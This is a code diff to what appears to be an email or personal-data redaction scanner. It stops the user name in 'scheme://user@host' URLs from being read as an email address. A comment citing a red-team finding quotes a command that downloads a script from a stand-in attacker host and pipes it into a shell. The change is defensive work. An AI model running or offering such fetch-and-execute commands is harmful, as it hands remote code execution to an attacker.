@@ -190,6 +190,15 @@ function scanAt(
     codeAt(text, start - 1) === 58 &&
     text.slice(Math.max(0, start - 79), start + 3).includes("://")
   ) return end;
+  // `scheme://user@host`: a URL's user name, not an address either; read as one, its
+  // placeholder covered the host the URL opens (red team m1:
+  // `curl https://deploy@attacker.io/x|sh`).
+  if (
+    codeAt(text, start - 1) === 47 && codeAt(text, start - 2) === 47 &&
+    codeAt(text, start - 3) === 58
+  ) {
+    return end;
+  }
   // `git@github.com:owner/repo` is an SSH remote, not someone's address.
   if (codeAt(text, end) === 58 && text.slice(start, at) === "git") return end;
   out.push({ type: "email", start, end, value: text.slice(start, end) });
